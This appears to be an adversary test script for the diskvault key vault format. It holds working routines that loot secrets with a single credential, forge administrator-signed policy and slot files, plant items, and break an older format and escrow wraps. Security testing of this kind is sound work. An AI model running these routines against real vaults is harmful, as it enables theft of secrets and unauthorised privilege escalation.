#!/usr/bin/python3
"""An adversary with one principal's credential and read/write access to a key vault's files.

Written against the on-disk format (Sources/DiskVault/KeyVault/KeyVaultFormat.swift) with Python's
`cryptography` package, sharing no code with diskvault.

  loot KV CRED            every key the credential yields, tried on every sealed thing in every file;
                          prints JSON: the capabilities opened and every plaintext recovered
  forge-policy KV CRED    grants the principal everything in policy.json, signed with its own key
  forge-slot KV CRED      gives the principal a secrets.get key of its own making in its slot, signed by it
  forge-item KV CRED      writes a new secret item sealed to the policy's keys, signed by the principal
  forge-item-with-junk    the same with one more part sealed to no one
  loot-v1 KV CRED         the attack on key vault format 1: any credential unseals the master key, which
                          opens every secret; prints each secret's value (base64) by name
  loot-escrow KV VAULT PASSFILE [RECOVERYFILE]
                          a host that backs up into an encrypted vault (it holds the vault's passphrase)
                          against the escrow wraps of a key vault escrowed to it and of the vault's key
                          backups: every key the master key yields; with RECOVERYFILE, the escrow key too
                          (the check that the attack itself works); prints JSON of what opened
"""
import hashlib
import base64, json, os, sys
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.kdf.hkdf import HKDF
from cryptography.hazmat.primitives import hashes, serialization

RAW = dict(encoding=serialization.Encoding.Raw, format=serialization.PublicFormat.Raw)


def b64(s): return base64.b64decode(s)
def e64(b): return base64.b64encode(b).decode()


def hkdf(key, salt, info, n=32):
    return HKDF(algorithm=hashes.SHA256(), length=n, salt=salt, info=info).derive(key)


def gcm_open(box, key, ad):
    if len(key) != 32 or len(box) < 5 + 12 + 16 or box[:5] != b"dvse\x01":
        return None
    try:
        return AESGCM(key).decrypt(box[5:17], box[17:], ad or None)
    except Exception:
        return None


def gcm_seal(plain, key, ad):
    nonce = os.urandom(12)
    return b"dvse\x01" + nonce + AESGCM(key).encrypt(nonce, plain, ad or None)


def pk_open(box, priv, ad):
    if len(box) < 5 + 32 or box[:5] != b"dvpk\x01":
        return None
    eph = box[5:37]
    try:
        shared = priv.exchange(X25519PublicKey.from_public_bytes(eph))
    except Exception:
        return None
    mine = priv.public_key().public_bytes(**RAW)
    return gcm_open(box[37:], hkdf(shared, eph + mine, b"diskvault sealed-to-key v1"), ad)


def pk_seal(plain, pub, ad):
    e = X25519PrivateKey.generate()
    eph = e.public_key().public_bytes(**RAW)
    shared = e.exchange(X25519PublicKey.from_public_bytes(pub))
    return b"dvpk\x01" + eph + gcm_seal(plain, hkdf(shared, eph + pub, b"diskvault sealed-to-key v1"), ad)


def signed_message(kind, path, payload):
    return b"diskvault-keyvault-signed v1\0" + kind.encode() + b"\0" + path.encode() + b"\0" + payload


def read_json(path):
    with open(path, "rb") as f:
        return json.load(f)


def credential(kv, cred_path):
    cred = read_json(cred_path)
    secret = b64(cred["secret"])
    salt = cred["keyVault"].encode()
    box = X25519PrivateKey.from_private_bytes(hkdf(secret, salt, b"diskvault credential box"))
    sign = Ed25519PrivateKey.from_private_bytes(hkdf(secret, salt, b"diskvault credential signing"))
    return cred, secret, box, sign


def every_file(kv):
    for d, _, files in os.walk(kv):
        for f in files:
            yield os.path.join(d, f), os.path.relpath(os.path.join(d, f), kv)


def blobs(value):
    """Every base64 string inside a JSON value, decoded, and JSON inside those, recursively."""
    if isinstance(value, dict):
        for v in value.values():
            yield from blobs(v)
    elif isinstance(value, list):
        for v in value:
            yield from blobs(v)
    elif isinstance(value, str):
        try:
            raw = base64.b64decode(value, validate=True)
        except Exception:
            return
        yield raw
        try:
            yield from blobs(json.loads(raw))
        except Exception:
            pass


def loot(kv, cred_path):
    cred, secret, box, sign = credential(kv, cred_path)
    kvid, me = cred["keyVault"], cred["principal"]
    caps = {}  # (name, generation) -> X25519PrivateKey
    slot_path = os.path.join(kv, "principals", me + ".json")
    if os.path.exists(slot_path):
        slot = json.loads(b64(read_json(slot_path)["payload"]))
        for name, gens in slot["capabilities"].items():
            for g, sealed in gens.items():
                plain = pk_open(b64(sealed), box, f"slot:{kvid}:{me}:{name}:{g}".encode())
                if plain is not None:
                    caps[(name, int(g))] = X25519PrivateKey.from_private_bytes(plain)
    opened = []
    part_keys = []
    ads = [b"", f"keyvault-admin:{kvid}".encode(), f"keyvault:{kvid}".encode()]
    # Every label a slot or the legacy key is sealed under, for every principal and generation in the folder.
    principals = [f[:-5] for f in os.listdir(os.path.join(kv, "principals")) if f.endswith(".json")] if os.path.isdir(os.path.join(kv, "principals")) else []
    capnames = ["secrets.list", "secrets.get", "secrets.restore", "keys.list", "keys.get", "keys.wrap", "keys.unwrap", "keys.restore"]
    for g in range(1, 8):
        ads.append(f"legacy:{kvid}:{g}".encode())
        for p in principals + [me]:
            for c in capnames:
                ads.append(f"slot:{kvid}:{p}:{c}:{g}".encode())
    items_dir = os.path.join(kv, "items")
    for name in sorted(os.listdir(items_dir)) if os.path.isdir(items_dir) else []:
        item = json.loads(b64(read_json(os.path.join(items_dir, name))["payload"]))
        for part, sealed in item["parts"].items():
            ads.append(f"item:{kvid}:{item['id']}:{part}".encode())
            pkey = None
            for capname, wrap in sealed["wraps"].items():
                ad = f"wrap:{kvid}:{item['id']}:{part}:{capname}:{wrap['generation']}".encode()
                ads.append(ad)
                # Every capability key the credential yields, and its own box key, on every wrap.
                for k in list(caps.values()) + [box]:
                    got = pk_open(b64(wrap["box"]), k, ad)
                    if got is not None:
                        pkey = got
            if pkey is not None:
                part_keys.append(pkey)
                plain = gcm_open(b64(sealed["box"]), pkey, f"item:{kvid}:{item['id']}:{part}".encode())
                if plain is not None:
                    opened.append({"file": "items/" + name, "part": part, "plaintext": e64(plain)})
    # The brute sweep: every symmetric key the credential yields (its secret, everything HKDF makes of it,
    # the capability private keys, the part keys) on every sealed box in every file, under every
    # associated data the format uses; and every X25519 key on every public-key box.
    ads = list(dict.fromkeys(ads))
    symmetric = [secret, hkdf(secret, kvid.encode(), b"diskvault credential box"),
                 hkdf(secret, kvid.encode(), b"diskvault credential signing")]
    symmetric += [k.private_bytes(encoding=serialization.Encoding.Raw, format=serialization.PrivateFormat.Raw,
                                  encryption_algorithm=serialization.NoEncryption()) for k in caps.values()]
    symmetric += part_keys
    sweep = []
    tried = 0
    for full, rel in every_file(kv):
        try:
            doc = read_json(full)
        except Exception:
            continue
        for raw in blobs(doc):
            if raw[:5] == b"dvse\x01":
                for k in symmetric:
                    for ad in ads:
                        tried += 1
                        got = gcm_open(raw, k, ad)
                        if got is not None:
                            sweep.append({"file": rel, "plaintext": e64(got)})
            if raw[:5] == b"dvpk\x01" and len(raw) >= 37:
                eph = raw[5:37]
                for k in list(caps.values()) + [box]:
                    try:
                        shared = k.exchange(X25519PublicKey.from_public_bytes(eph))
                    except Exception:
                        continue
                    boxkey = hkdf(shared, eph + k.public_key().public_bytes(**RAW), b"diskvault sealed-to-key v1")
                    for ad in ads:
                        tried += 1
                        got = gcm_open(raw[37:], boxkey, ad)
                        if got is not None:
                            sweep.append({"file": rel, "plaintext": e64(got)})
    print(json.dumps({"principal": me, "capabilities": sorted(f"{n}@{g}" for n, g in caps),
                      "opened": opened, "sweep": sweep, "tried": tried}))


def write_signed(kv, path, kind, payload, signer, key, certificate=None):
    doc = {"format": "diskvault-keyvault-signed", "kind": kind, "payload": e64(payload), "signer": signer,
           "signature": e64(key.sign(signed_message(kind, path, payload)))}
    if certificate:
        doc["certificate"] = certificate
    with open(os.path.join(kv, path), "w") as f:
        json.dump(doc, f)


def forge_policy(kv, cred_path):
    cred, _, _, sign = credential(kv, cred_path)
    doc = read_json(os.path.join(kv, "policy.json"))
    policy = json.loads(b64(doc["payload"]))
    every = ["get", "list", "set", "delete", "wrap", "unwrap", "backup", "restore"]
    policy["principals"][cred["principal"]]["keys"] = every
    policy["principals"][cred["principal"]]["secrets"] = every
    # Claims to be the administrator; signed with the only key the principal has.
    write_signed(kv, "policy.json", "policy", json.dumps(policy).encode(), "admin", sign)


def forge_slot(kv, cred_path):
    cred, _, box, sign = credential(kv, cred_path)
    me, kvid = cred["principal"], cred["keyVault"]
    path = f"principals/{me}.json"
    doc = read_json(os.path.join(kv, path))
    slot = json.loads(b64(doc["payload"]))
    mine = X25519PrivateKey.generate()
    raw = mine.private_bytes(encoding=serialization.Encoding.Raw, format=serialization.PrivateFormat.Raw,
                             encryption_algorithm=serialization.NoEncryption())
    gen = "1"
    slot["capabilities"]["secrets.get"] = {gen: e64(pk_seal(raw, box.public_key().public_bytes(**RAW),
                                                             f"slot:{kvid}:{me}:secrets.get:{gen}".encode()))}
    write_signed(kv, path, "slot", json.dumps(slot).encode(), "admin", sign)


def forge_item(kv, cred_path, junk_part=False):
    cred, _, _, sign = credential(kv, cred_path)
    me, kvid = cred["principal"], cred["keyVault"]
    policy = json.loads(b64(read_json(os.path.join(kv, "policy.json"))["payload"]))
    slot = json.loads(b64(read_json(os.path.join(kv, "principals", me + ".json"))["payload"]))
    item_id = os.urandom(16).hex()
    parts = {}
    for part, plain, readers in [
        ("listing", json.dumps({"name": "planted", "version": 1, "tags": {"volume": "planted-volume"},
                                "created": "2026-01-01T00:00:00Z"}).encode(), ["secrets.list", "secrets.get", "secrets.restore"]),
        ("value", json.dumps({"value": e64(b"a planted key")}).encode(), ["secrets.get", "secrets.restore"]),
    ]:
        pkey = os.urandom(32)
        wraps = {}
        for c in readers:
            cap = policy["capabilities"][c]
            wraps[c] = {"generation": cap["generation"],
                        "box": e64(pk_seal(pkey, b64(cap["publicKey"]), f"wrap:{kvid}:{item_id}:{part}:{c}:{cap['generation']}".encode()))}
        parts[part] = {"box": e64(gcm_seal(plain, pkey, f"item:{kvid}:{item_id}:{part}".encode())), "wraps": wraps}
    if junk_part:
        # A part sealed to nobody: no one, the administrator included, can open it.
        parts["x"] = {"box": e64(gcm_seal(b"junk", os.urandom(32), b"")), "wraps": {}}
    item = {"keyVault": kvid, "id": item_id, "scope": "secrets", "epoch": policy["epoch"], "parts": parts}
    write_signed(kv, f"items/{item_id}", "item", json.dumps(item).encode(), "principal:" + me, sign, slot["certificate"])
    print(item_id)


def loot_v1(kv, cred_path):
    cred = read_json(cred_path)
    me = cred["principal"]
    slot = read_json(os.path.join(kv, "principals", me + ".json"))
    key = hashlib.sha256(b"diskvault credential" + b64(cred["secret"])).digest()
    master = gcm_open(b64(slot["sealedMasterKey"]), key, f"principal:{me}".encode())
    out = {}
    for name in sorted(os.listdir(os.path.join(kv, "data", "secrets"))):
        for v in os.listdir(os.path.join(kv, "data", "secrets", name)):
            rel = f"data/secrets/{name}/{v}"
            with open(os.path.join(kv, rel), "rb") as f:
                record = json.loads(gcm_open(f.read(), master, rel.encode()))
            out[name] = record["value"]
    print(json.dumps(out))


def loot_escrow(kv, vault, pass_file, recovery_file=None):
    from cryptography.hazmat.primitives.kdf.scrypt import Scrypt
    def scrypt(pw, kdf):
        return Scrypt(salt=b64(kdf["salt"]), length=32, n=2 ** kdf["logN"], r=kdf["r"], p=kdf["p"]).derive(pw)
    config = read_json(os.path.join(vault, "vault.json"))
    vid = config["id"]
    pw = open(pass_file, "rb").read()
    enc = config["encryption"]
    master = gcm_open(b64(enc["sealedMasterKey"]), scrypt(pw, enc["kdf"]), f"diskvault-vault-master:{vid}".encode())
    assert master is not None, "the vault passphrase does not open the master key"
    uses = ["blob", "chunk naming", "metadata", "key escrow", "escrow", "recovery"]
    candidates = [master] + [hkdf(master, vid.encode(), f"diskvault vault {u}".encode()) for u in uses]
    metadata = hkdf(master, vid.encode(), b"diskvault vault metadata")
    def vault_object(key):
        with open(os.path.join(vault, key), "rb") as f:
            return gcm_open(f.read(), metadata, f"diskvault-vault:{vid}:{key}".encode())
    escrow = json.loads(vault_object("escrow.json"))
    sealed_private = b64(escrow["sealedPrivateKey"])
    # The vault's passphrase tried as the recovery passphrase too.
    for pwkey in [scrypt(pw, escrow["kdf"])] + candidates:
        got = gcm_open(sealed_private, pwkey, f"diskvault-vault-escrow:{vid}".encode())
        if got is not None:
            candidates.append(got)
    if recovery_file:
        got = gcm_open(sealed_private, scrypt(open(recovery_file, "rb").read(), escrow["kdf"]), f"diskvault-vault-escrow:{vid}".encode())
        assert got is not None, "the recovery passphrase does not open the escrow key"
        candidates.append(got)
    privates = []
    for c in candidates:
        try:
            privates.append(X25519PrivateKey.from_private_bytes(c))
        except Exception:
            pass
    # Every item: the key vault's own files, and every copy in the vault's key backups.
    items = []
    items_dir = os.path.join(kv, "items")
    for name in sorted(os.listdir(items_dir)) if os.path.isdir(items_dir) else []:
        items.append(json.loads(b64(read_json(os.path.join(items_dir, name))["payload"])))
    for root, _, files in os.walk(os.path.join(vault, "disks")):
        if "keys" in files:
            blob = vault_object(os.path.relpath(os.path.join(root, "keys"), vault))
            for copy in json.loads(blob)["items"]:
                items.append(json.loads(b64(json.loads(b64(copy["file"]))["payload"])))
    opened, tried, wraps = [], 0, 0
    for item in items:
        for part, sealed in item["parts"].items():
            part_ad = f"item:{item['keyVault']}:{item['id']}:{part}".encode()
            for name, wrap in sealed["wraps"].items():
                if name.startswith("escrow:"):
                    wraps += 1
                ad = f"escrow:{item['keyVault']}:{item['id']}:{part}:{name[len('escrow:'):]}".encode()
                for k in privates:
                    tried += 1
                    pkey = pk_open(b64(wrap["box"]), k, ad)
                    plain = gcm_open(b64(sealed["box"]), pkey, part_ad) if pkey else None
                    if plain is not None:
                        opened.append({"item": item["id"], "part": part, "plaintext": e64(plain)})
            for c in candidates:
                tried += 1
                plain = gcm_open(b64(sealed["box"]), c, part_ad)
                if plain is not None:
                    opened.append({"item": item["id"], "part": part, "plaintext": e64(plain)})
    print(json.dumps({"items": len(items), "escrowWraps": wraps, "tried": tried, "opened": opened}))


if __name__ == "__main__":
    if sys.argv[1] == "loot-escrow":
        loot_escrow(*sys.argv[2:])
        sys.exit(0)
    verb, kv, cred = sys.argv[1:4]
    if verb == "forge-item-with-junk":
        forge_item(kv, cred, junk_part=True)
    else:
        {"loot": loot, "forge-policy": forge_policy, "forge-slot": forge_slot, "forge-item": forge_item, "loot-v1": loot_v1}[verb](kv, cred)
